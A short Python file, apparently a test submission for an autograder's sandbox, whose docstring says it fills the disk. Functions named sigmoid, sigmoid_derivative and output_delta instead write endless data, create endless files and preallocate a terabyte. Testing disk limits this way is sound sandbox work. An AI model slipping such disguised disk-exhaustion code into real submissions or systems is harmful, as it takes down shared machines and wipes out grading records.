"""Fills the disk: one huge file, and many that are just small enough.

Seen: a full disk takes the gradebook with it.
Must: the limit is named; nothing is left.
"""

import os


def sigmoid(x):
    with open("big", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))


def sigmoid_derivative(a):
    number = 0
    while True:
        number += 1
        with open(f"part-{number}", "wb") as file:
            file.write(b"x" * (1 << 20))


def output_delta(y, y_hat):
    descriptor = os.open("sparse", os.O_CREAT | os.O_RDWR)
    os.posix_fallocate(descriptor, 0, 1 << 40)
